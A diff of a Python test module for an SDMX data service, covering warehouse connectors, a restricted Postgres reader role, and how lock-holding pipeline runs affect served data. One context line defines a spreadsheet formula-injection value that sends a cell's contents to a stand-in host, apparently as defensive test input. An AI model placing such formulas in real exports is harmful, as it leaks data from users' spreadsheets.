@@ -21,6 +21,7 @@ from pipelines.sdmx import data as D
 from pipelines.sdmx import query as Q
 from pipelines.sdmx import structure as st
 from pipelines.sdmx.errors import SdmxError
+from pipelines.settings import Paths
 from pipelines.warehouse import lock_path
 
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"ok")'
@@ -80,6 +81,8 @@ def _fill(execute, executemany):
 
 
 def _duckdb(tmp):
+    """An MNR_HOME whose warehouse holds ROWS (and the restricted marts layer beside them)."""
+    (tmp / "state").mkdir(parents=True, exist_ok=True)
     path = tmp / "warehouse.duckdb"
     with duckdb.connect(str(path)) as con:
         _fill(con.execute, con.executemany)
@@ -91,7 +94,7 @@ def warehouse(request, tmp_path_factory):
     """(path, connector) of a warehouse holding ROWS in published.observations."""
     if request.param == "duckdb":
         path = _duckdb(tmp_path_factory.mktemp("sdmx"))
-        yield path, D.published_connector(path, 5)
+        yield path, D.published_connector(Paths(path.parent), 5)
         return
     if not os.environ.get("MNR_PG_HOST"):
         pytest.skip("no Postgres server: set MNR_PG_* (.ci/run starts one with .ci/postgres.sh)")
@@ -103,16 +106,25 @@ def warehouse(request, tmp_path_factory):
     settings = postgres_settings()
     with psycopg.connect(**settings, autocommit=True) as con:
         con.execute(f'create database "{name}" template template0 encoding \'UTF8\'')
+    from pipelines.query import reader_grants
+
+    reader, password = f"{name}_reader", uuid.uuid4().hex
     mp = pytest.MonkeyPatch()
     mp.setenv("MNR_DBT_TARGET", "postgres")
     mp.setenv("MNR_PG_DATABASE", name)
+    mp.setenv("MNR_PG_QUERY_USER", reader)
+    mp.setenv("MNR_PG_QUERY_PASSWORD", password)
     with psycopg.connect(**{**settings, "dbname": name}, autocommit=True) as raw:
         db = Db(raw, "postgres")
         _fill(db.execute, db.executemany)
-    yield None, D.published_connector(tmp_path_factory.mktemp("pg") / "none", 5)
+        db.execute(f"create role {reader} login password '{password}'")
+        for grant in reader_grants(reader):        # the published schema only, restricted rows left out
+            db.execute(grant)
+    yield None, D.published_connector(Paths(tmp_path_factory.mktemp("pg")), 5)
     mp.undo()
     with psycopg.connect(**settings, autocommit=True) as con:
         con.execute(f'drop database if exists "{name}" with (force)')
+        con.execute(f"drop role if exists {reader}")
 
 
 @pytest.fixture(scope="module")
@@ -234,7 +246,7 @@ def test_no_match_is_404_before_anything_is_sent_and_the_warehouse_is_let_go(war
         assert writer_could_start(warehouse[0])
 
 
-def test_the_answer_is_streamed_in_chunks_and_the_warehouse_let_go_at_the_end(warehouse, monkeypatch):
+def test_the_answer_is_streamed_in_chunks_and_never_holds_a_run_up(warehouse, monkeypatch):
     monkeypatch.setattr(D, "GROUP_ROWS", 2)       # one query per country or two
     monkeypatch.setattr(D, "BATCH_ROWS", 1)
     monkeypatch.setattr(D, "CHUNK_BYTES", 200)
@@ -244,35 +256,45 @@ def test_the_answer_is_streamed_in_chunks_and_the_warehouse_let_go_at_the_end(wa
     assert len(chunks) > 5 and all(isinstance(c, bytes) for c in chunks)
     assert b"".join(chunks).count(b"<Obs ") == len(ROWS)
     if warehouse[0] is not None:
-        assert writer_could_start(warehouse[0])
-        # a client that goes away half-way: the server closes the response, which lets the warehouse go
+        # DuckDB: the answer reads the published copy; a run can take the warehouse while it streams
         r = D.DataResponse(Q.data_query(None, None, {}), Q.data_format(None), warehouse[1])
         it = iter(r)
         next(it)
-        assert not writer_could_start(warehouse[0])
-        r.close()
         assert writer_could_start(warehouse[0])
+        r.close()                                   # a client that goes away half-way: the server closes it
+        assert r.db.raw is not None
+        with pytest.raises(duckdb.Error):
+            r.db.raw.execute("select 1")            # its connection is closed
 
 
 def test_a_warehouse_with_nothing_published_yet_is_404(tmp_path):
-    path = tmp_path / "warehouse.duckdb"
-    duckdb.connect(str(path)).close()            # the reference data loaded, say, but no publication yet
-    for where in (path, tmp_path / "absent.duckdb"):
+    (tmp_path / "state").mkdir()
+    duckdb.connect(str(tmp_path / "warehouse.duckdb")).close()   # the reference data loaded, say, nothing published
+    for home in (tmp_path, tmp_path / "absent"):
         with pytest.raises(SdmxError) as e:
-            D.DataResponse(Q.data_query(None, None, {}), Q.data_format(None), D.published_connector(where, 1))
+            D.DataResponse(Q.data_query(None, None, {}), Q.data_format(None), D.published_connector(Paths(home), 1))
         assert e.value.status == 404 and "nothing has been published" in e.value.message
 
 
-def test_a_pipeline_run_holding_the_warehouse_gives_503_with_retry_after(tmp_path):
+def test_while_a_run_holds_the_warehouse_the_last_copy_is_served_or_503(tmp_path):
     path = _duckdb(tmp_path)
+    connector = D.published_connector(Paths(tmp_path), 0.3)
     fd = os.open(lock_path(path), os.O_RDWR | os.O_CREAT, 0o640)
-    fcntl.flock(fd, fcntl.LOCK_EX)       # as a run holds it
+    fcntl.flock(fd, fcntl.LOCK_EX)       # as a run holds it, before anything was ever served
     try:
         with pytest.raises(SdmxError) as e:
-            D.DataResponse(Q.data_query(None, None, {}), Q.data_format(None), D.published_connector(path, 0.3))
+            D.DataResponse(Q.data_query(None, None, {}), Q.data_format(None), connector)
+        assert e.value.status == 503 and e.value.headers["Retry-After"] == "60"
     finally:
         os.close(fd)
-    assert e.value.status == 503 and e.value.headers["Retry-After"] == "60"
+    before = b"".join(D.DataResponse(Q.data_query(None, None, {}), Q.data_format(Q.CSV_1), connector))
+    fd = os.open(lock_path(path), os.O_RDWR | os.O_CREAT, 0o640)
+    fcntl.flock(fd, fcntl.LOCK_EX)       # the next run: the copy made before it is served meanwhile
+    try:
+        during = b"".join(D.DataResponse(Q.data_query(None, None, {}), Q.data_format(Q.CSV_1), connector))
+    finally:
+        os.close(fd)
+    assert during == before and during.count(b"\r\n") == len(ROWS) + 1
 
 
 def test_only_the_published_table_is_ever_named():
